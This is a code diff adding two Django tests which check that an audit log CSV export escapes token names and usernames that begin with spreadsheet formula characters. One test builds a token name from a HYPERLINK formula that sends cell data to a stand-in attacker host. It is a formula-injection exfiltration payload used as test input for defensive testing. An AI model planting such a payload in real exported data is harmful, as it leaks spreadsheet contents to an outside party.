@@ -8,6 +8,7 @@ from django.test import Client
 from django.urls import reverse
 
 from orgs.audit import audit_record
+from orgs.services import api_token_create
 
 pytestmark = pytest.mark.django_db
 
@@ -62,3 +63,20 @@ def test_the_export_refuses_post(world, login):
 def test_the_audit_page_links_the_export_with_its_filters(world, login):
     content = login(world.owner).get(reverse("orgs:audit", args=["acme"]) + "?verb=node.").content.decode()
     assert "/o/acme/audit/export.csv?verb=node." in content
+
+
+def test_a_token_named_like_a_formula_lands_in_the_export_as_text(world, login):
+    token, _ = api_token_create(org=world.org, name='=HYPERLINK("http://evil.invalid/?"&A1,"click")',
+                                access="read", by=world.owner)
+    audit_record(org=world.org, verb="node.created", token=token)
+    rows = _rows(login(world.owner).get(reverse("orgs:audit_export", args=["acme"])))
+    row = next(r for r in rows if r["verb"] == "node.created")
+    assert row["token"].startswith("'=HYPERLINK(")
+
+
+def test_an_actor_whose_username_reads_as_a_formula_lands_in_the_export_as_text(world, login):
+    world.analyst.username = "@SUM(1+1)"
+    world.analyst.save(update_fields=["username"])
+    audit_record(org=world.org, verb="finding.triaged", actor=world.analyst)
+    rows = _rows(login(world.owner).get(reverse("orgs:audit_export", args=["acme"])))
+    assert next(r for r in rows if r["verb"] == "finding.triaged")["actor"] == "'@SUM(1+1)"
